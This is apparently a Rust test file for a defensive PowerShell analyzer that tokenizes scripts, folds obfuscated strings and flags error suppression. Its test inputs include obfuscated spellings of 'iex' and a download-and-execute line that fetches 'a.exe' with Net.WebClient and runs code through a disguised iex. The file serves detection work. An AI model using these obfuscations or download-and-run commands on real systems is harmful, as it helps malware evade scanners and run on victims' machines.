//! The tokenizer, the folder and the analysis on the forms PowerShell accepts (every
//! accepted form here is also checked by a real PowerShell grammar:
//! `scripts/ci-powershell-grammar.sh`, which reads `tests/fixtures/powershell/`).

use super::eval::{self, Val, Vars};
use super::tree;
use super::*;

fn toks(s: &str) -> Vec<Tok> {
    tokenize(s).into_iter().map(|t| t.tok).collect()
}

fn fold(s: &str) -> Option<String> {
    let nodes = tree::build(tokenize(s));
    let st = tree::statements(&nodes);
    eval::fold(st.first()?, &Vars::default()).map(|v| v.text())
}

fn sup(s: &str) -> Suppression {
    analyze(s, 4).suppression
}

fn names(s: &str) -> Vec<String> {
    analyze(s, 4).commands.into_iter().map(|c| c.name).collect()
}

#[test]
fn parameters_in_argument_mode_operators_in_expression_mode() {
    assert_eq!(
        toks("Get-Item x -ea:0 | iex"),
        vec![
            Tok::Command("Get-Item".into()),
            Tok::Word("x".into()),
            Tok::Parameter {
                name: "ea".into(),
                colon: true
            },
            Tok::Number("0".into()),
            Tok::Pipe,
            Tok::Command("iex".into()),
        ]
    );
    assert_eq!(
        toks("'a','b' -join ''"),
        vec![
            Tok::Str {
                value: "a".into(),
                expandable: false
            },
            Tok::Punct(","),
            Tok::Str {
                value: "b".into(),
                expandable: false
            },
            Tok::Operator("join".into()),
            Tok::Str {
                value: "".into(),
                expandable: false
            },
        ]
    );
    // En dash, em dash and the horizontal bar are dashes; backticks vanish.
    assert_eq!(
        toks("I`E`X \u{2013}E`rrorAction \u{2015}x"),
        vec![
            Tok::Command("IEX".into()),
            Tok::Parameter {
                name: "erroraction".into(),
                colon: false
            },
            Tok::Parameter {
                name: "x".into(),
                colon: false
            },
        ]
    );
}

#[test]
fn strings_variables_members_and_comments() {
    assert_eq!(
        toks("\"a`tb`\"c\" 'it''s' # -ea 0\n<# x #>$global:x ${a b} $env:ComSpec @p"),
        vec![
            Tok::Str {
                value: "a\tb\"c".into(),
                expandable: true
            },
            Tok::Str {
                value: "it's".into(),
                expandable: false
            },
            Tok::End,
            Tok::Variable {
                name: "global:x".into(),
                splat: false
            },
            Tok::Variable {
                name: "a b".into(),
                splat: false
            },
            Tok::Variable {
                name: "env:ComSpec".into(),
                splat: false
            },
            Tok::Variable {
                name: "p".into(),
                splat: true
            },
        ]
    );
    assert_eq!(
        toks("@'\nGet-Item -ea 0\n'@"),
        vec![Tok::Str {
            value: "Get-Item -ea 0".into(),
            expandable: false
        }]
    );
    assert_eq!(
        toks("(New-Object Net.WebClient).DownloadString('u')"),
        vec![
            Tok::Open("("),
            Tok::Command("New-Object".into()),
            Tok::Word("Net.WebClient".into()),
            Tok::Close(')'),
            Tok::Punct("."),
            Tok::Member("downloadstring".into()),
            Tok::Open("("),
            Tok::Str {
                value: "u".into(),
                expandable: false
            },
            Tok::Close(')'),
        ]
    );
    assert_eq!(
        toks("[Net.WebRequest]::Create($u)"),
        vec![
            Tok::Type("net.webrequest".into()),
            Tok::Punct("::"),
            Tok::Member("create".into()),
            Tok::Open("("),
            Tok::Variable {
                name: "u".into(),
                splat: false
            },
            Tok::Close(')'),
        ]
    );
}

#[test]
fn obfuscations_fold_to_their_value() {
    let mut bad = Vec::new();
    for (expr, want) in [
        ("('Silently'+'Continue')", "SilentlyContinue"),
        ("'{1}{0}' -f 'ex','i'", "iex"),
        ("'{0}{1}{2}' -f 'Ig','no','re'", "Ignore"),
        ("('I','g','n','o','r','e') -join ''", "Ignore"),
        ("-join ('I','g','nore')", "Ignore"),
        ("[char]73+[char]69+[char]88", "IEX"),
        ("-join [char[]](73,69,88)", "IEX"),
        ("[string]::Join('', [char[]](105,101,120))", "iex"),
        ("'IXnXorXe'.Replace('X','')", "Inore"),
        ("'xgnore'.Replace('x','I')", "Ignore"),
        ("'SILENTLYCONTINUE'.ToLower()", "silentlycontinue"),
        ("'erongI'[-1..-6] -join ''", "Ignore"),
        ("$env:ComSpec[4,15,25] -join ''", "Iex"),
        ("$ShellId[1]+$ShellId[13]+'x'", "iex"),
        ("$PSHome[4]+$PSHome[30]+'x'", "iex"),
        ("[Management.Automation.ActionPreference]::Ignore", "Ignore"),
        (
            "[System.Management.Automation.ActionPreference]0",
            "SilentlyContinue",
        ),
        (
            "'S1l3ntlyC0nt1nu3' -replace '1','i' -replace '3','e' -replace '0','o'",
            "SilentlyContinue",
        ),
        ("\"$('Ign'+'ore')\"", "Ignore"),
        ("'Ign'+\"ore\"", "Ignore"),
    ] {
        if fold(expr).as_deref() != Some(want) {
            bad.push((expr, fold(expr)));
        }
    }
    assert!(bad.is_empty(), "{bad:#?}");
    // What depends on a command is unknown.
    assert_eq!(fold("(Get-Date).ToString()"), None);
    assert_eq!(fold("$unknown + 'x'"), None);
}

/// Every accepted form of error suppression, and the look-alikes that are not,
/// from the fixture the grammar check also reads (each is valid PowerShell:
/// `scripts/ci-powershell-grammar.sh`).
fn forms(kind: &str) -> Vec<String> {
    static FORMS: &str =
        include_str!("../../../../tests/fixtures/powershell/suppression-forms.json");
    let v: serde_json::Value = serde_json::from_str(FORMS).expect("valid fixture");
    v[kind]
        .as_array()
        .expect("a list")
        .iter()
        .map(|s| s.as_str().expect("a string").to_string())
        .collect()
}

#[test]
fn every_parameter_form_is_suppression() {
    let all = forms("parameter");
    assert!(all.len() > 20);
    let bad: Vec<_> = all
        .iter()
        .filter(|t| {
            let s = sup(t);
            !s.parameter || s.preference
        })
        .collect();
    assert!(bad.is_empty(), "{bad:#?}");
}

#[test]
fn every_preference_form_is_suppression() {
    let all = forms("preference");
    assert!(all.len() > 20);
    let bad: Vec<_> = all.iter().filter(|t| !sup(t).preference).collect();
    assert!(bad.is_empty(), "{bad:#?}");
}

#[test]
fn look_alikes_are_not_suppression() {
    let all = forms("not_suppression");
    assert!(all.len() > 30);
    let bad: Vec<_> = all.iter().filter(|t| sup(t).any()).collect();
    assert!(bad.is_empty(), "{bad:#?}");
}

#[test]
fn commands_methods_and_objects_are_read_from_what_runs() {
    let a = analyze(
        "$wc = New-Object -TypeName Net.WebClient; $wc.DownloadFile('http://x/a.exe', \"$env:PUBLIC\\a.exe\"); & ('i'+'ex') 'Start-Process calc'",
        4,
    );
    assert_eq!(a.created, vec!["net.webclient"]);
    assert!(
        a.calls
            .iter()
            .any(|c| c.name == "downloadfile"
                && c.args == ["http://x/a.exe", r"C:\Users\Public\a.exe"]),
        "{:?}",
        a.calls
    );
    assert!(names("& ('i'+'ex') 'x'").contains(&"iex".to_string()));
    // Code inside code is read too.
    assert!(names("iex \"Start-Process calc\"").contains(&"start-process".to_string()));
    assert!(names(".($ShellId[1]+$ShellId[13]+'x') 'whoami'").contains(&"whoami".to_string()));
    // A cmdlet name in a printed string runs nothing.
    assert_eq!(
        names("Write-Host 'Invoke-WebRequest http://x'"),
        vec!["write-host"]
    );
    let a = analyze("[Convert]::FromBase64String('AAAA')", 4);
    assert_eq!(a.calls[0].name, "convert::frombase64string");
}

#[test]
fn code_nested_past_the_limit_is_reported() {
    let mut code = "Get-Item x -ea 0".to_string();
    for _ in 0..3 {
        code = format!("iex '{}'", code.replace('\'', "''"));
    }
    assert!(analyze(&code, 4).suppression.parameter);
    assert!(!analyze(&code, 4).depth_limited);
    let a = analyze(&code, 2);
    assert!(a.depth_limited && !a.suppression.any());
}

/// Random PowerShell-ish text (a fixed-seed generator, so failures reproduce):
/// the reader never panics and always ends.
#[test]
fn random_text_never_panics() {
    const PIECES: &[&str] = &[
        "$",
        "@",
        "(",
        ")",
        "{",
        "}",
        "[",
        "]",
        "'",
        "\"",
        "`",
        "-",
        "\u{2013}",
        "ea",
        "0",
        "4",
        "iex",
        " ",
        "\n",
        ";",
        "|",
        "&",
        ".",
        "::",
        ",",
        "+",
        "-f",
        "-join",
        "[char]",
        "99",
        "'{0}'",
        "@'\n",
        "\n'@",
        "<#",
        "#>",
        "#",
        "=",
        "$x",
        "${a}",
        "-ErrorAction",
        "Ignore",
        "-9223372036854775808",
        "..",
        "[-1]",
        ".Replace(",
        "\u{e9}",
        "\u{0}",
        "%COMSPEC:~-99999999999999999999,1%",
    ];
    let mut seed: u64 = 0x5eed;
    for _ in 0..1500 {
        let mut text = String::new();
        for _ in 0..(seed % 40) {
            seed = seed
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            text.push_str(PIECES[(seed >> 33) as usize % PIECES.len()]);
        }
        seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1);
        let _ = analyze(&text, 4);
        let _ = eval::expand(&text, &Vars::default());
        let _ = crate::cmdexe::commands(&format!("cmd /c {text}"));
    }
}

#[test]
fn hostile_text_terminates() {
    let deep = "(".repeat(10_000);
    let blocks = "{".repeat(10_000);
    for t in [
        deep.as_str(),
        blocks.as_str(),
        "\"$(",
        "@'",
        "'",
        "${",
        "[",
        "-",
        "`",
        "$x[",
        "'a' * 999999999",
        "1..999999999",
        "('a'+'a')*100000 -replace 'a','aaaaaaaaaaaaaaaaaaaa'",
        "'{99}' -f 1",
        "[char]-1",
        "iex iex iex iex",
        "$a = 'iex $a'; iex $a",
    ] {
        let _ = analyze(t, 4);
    }
    let long = "$x = $x + 'aaaa';".repeat(10_000);
    let _ = analyze(&long, 4);
    let v = Val::Str("x".into());
    assert_eq!(v.text(), "x");
}

#[test]
fn folding_work_is_bounded() {
    // Each statement builds a megabyte; a million of them would be a terabyte.
    let big = "$a = 'x' * 4096; $a = $a * 256; ".repeat(2_000);
    let a = analyze(&big, 4);
    assert!(a.strings.len() <= 4096);
    let chain = format!("$a = 'x' * 1000000{}", " -replace 'x','x'".repeat(5_000));
    let _ = analyze(&chain, 4);
}
